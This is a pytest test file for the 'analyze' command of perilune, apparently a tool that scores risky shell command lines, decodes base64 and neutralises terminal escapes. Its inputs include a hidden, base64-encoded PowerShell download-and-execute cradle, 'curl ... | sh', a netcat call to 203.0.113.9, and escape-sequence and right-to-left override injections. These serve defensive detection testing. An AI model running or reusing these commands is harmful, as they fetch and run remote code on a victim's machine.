"""`perilune analyze` from outside."""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from importlib.resources import files
from pathlib import Path

import jsonschema
import pytest

from perilune.cli.analyze import decoded, is_list

ENCODED = base64.b64encode(
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')".encode("utf-16-le")
).decode()


def perilune(*arguments: str | Path, given: bytes = b"", columns: int = 160) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "perilune", *map(str, arguments)],
        input=given,
        capture_output=True,
        env={**os.environ, "NO_COLOR": "1", "COLUMNS": str(columns)},
        timeout=60,
    )


def test_a_command_is_shown_as_a_tree_with_its_reasons() -> None:
    done = perilune("analyze", "--command", f"powershell -w hidden -e {ENCODED}")
    shown = done.stdout.decode()
    assert done.returncode == 1, done.stderr
    for words in (
        "Critical",
        "score",
        "Most command lines are harmless",
        "1 base64",
        "DownloadString",
        "http://203.0.113.9/a",
    ):
        assert words in shown


def test_json_follows_its_schema() -> None:
    schema = json.loads((files("perilune") / "content" / "schemas" / "analyze.schema.json").read_text())
    for command in (
        f"powershell -e {ENCODED}",
        "ls",
        "bash -c 'curl http://203.0.113.9/a|sh'",
        "echo \x00\x1b[2J",
        "x \udcff",
    ):
        done = perilune("analyze", "--json", "--command", command) if "\x00" not in command else perilune(
            "analyze", "--json", "-", given=command.encode()
        )  # fmt: skip
        jsonschema.validate(json.loads(done.stdout), schema)


def test_a_harmless_command_ends_with_0() -> None:
    assert perilune("analyze", "--command", "ls -l").returncode == 0


def test_terminal_escapes_do_not_reach_the_terminal() -> None:
    done = perilune("analyze", "-", given=b"echo \x1b[2J\x1b]0;owned\x07 \xe2\x80\xaeexe.txt")
    assert b"\x1b" not in done.stdout
    assert "⟨U+001B⟩" in done.stdout.decode()
    assert done.stdout.decode().count("⟨U+202E⟩") >= 1


def test_lines_are_told_from_a_script(tmp_path: Path) -> None:
    lines = tmp_path / "lines.txt"
    lines.write_text("whoami\ncurl http://203.0.113.9/a | sh\n")
    found = json.loads(perilune("analyze", "--json", lines).stdout)
    assert [one["where"] for one in found["analyses"]] == [f"{lines}:1", f"{lines}:2"]
    script = tmp_path / "a.sh"
    script.write_text("whoami\nls\n")
    assert len(json.loads(perilune("analyze", "--json", script).stdout)["analyses"]) == 1
    assert len(json.loads(perilune("analyze", "--json", "--script", lines).stdout)["analyses"]) == 1


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("whoami\nls -l\n", True),
        ("whoami", False),
        ("#!/bin/sh\nls\n", False),
        ("if true; then\n  ls\nfi\n", False),
        ("$a = 1\nGet-Date\n", False),
        ("local a = 1\nprint(a)\n", False),
    ],
)
def test_what_is_a_list(text: str, expected: bool) -> None:
    assert is_list(text) is expected


def test_a_list_is_looked_up_in(tmp_path: Path) -> None:
    mine = tmp_path / "mine.csv"
    mine.write_text("indicator,date\n203.0.113.9,2026-01-01\n")
    found = json.loads(perilune("analyze", "--json", "--list", mine, "--command", "nc 203.0.113.9 80").stdout)
    listing = found["analyses"][0]["indicators"][0]["listings"][0]
    assert (listing["list"], listing["entry"], listing["since"]) == (str(mine), "203.0.113.9", "2026-01-01")


def test_files_of_every_usual_encoding_are_read() -> None:
    for encoding in ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"):
        assert decoded("Get-Date; whoami".encode(encoding)) == "Get-Date; whoami"


def test_wrong_usage_is_one_line(tmp_path: Path) -> None:
    for arguments in (["analyze"], ["analyze", "x", "--command", "y"], ["analyze", tmp_path / "none.txt"]):
        done = perilune(*arguments)
        assert done.returncode == 2
        assert done.stderr.decode().startswith("perilune: ")
        assert done.stderr.count(b"\n") == 1


def test_an_empty_input_says_so() -> None:
    done = perilune("analyze", "--lines", "-", given=b"\n\n")
    assert "empty" in done.stdout.decode()
    assert perilune("analyze", "--command", "").returncode == 0
